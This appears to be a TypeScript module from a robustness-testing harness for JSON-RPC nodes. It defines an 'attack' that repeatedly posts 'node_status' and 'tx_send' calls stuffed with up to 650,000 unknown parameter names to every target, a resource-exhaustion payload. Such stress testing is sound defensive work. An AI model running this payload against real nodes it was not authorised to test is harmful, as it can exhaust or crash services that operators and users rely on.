import type { Attack } from '../attack.ts';
import { callOf, onEach, postAgain } from '../http.ts';

/** An object with so many names, all of them different. */
const object = (names: number): string =>
  `{${Array.from({ length: names }, (_, i) => `"k${i}":0`).join(',')}}`;
const BODIES = [
  callOf('node_status', object(650_000)),
  callOf('node_status', object(900)),
  callOf('tx_send', `{"transaction":${object(900)}}`),
] as const;

export const attack: Attack = {
  name: 'rpc-unknown-parameters',
  what: 'Calls have up to 650,000 parameters that no method knows.',
  run: ({ targets }, signal) =>
    onEach(targets, (target) => postAgain(target, (turn) => BODIES[turn % BODIES.length] ?? '', 4, signal)),
};
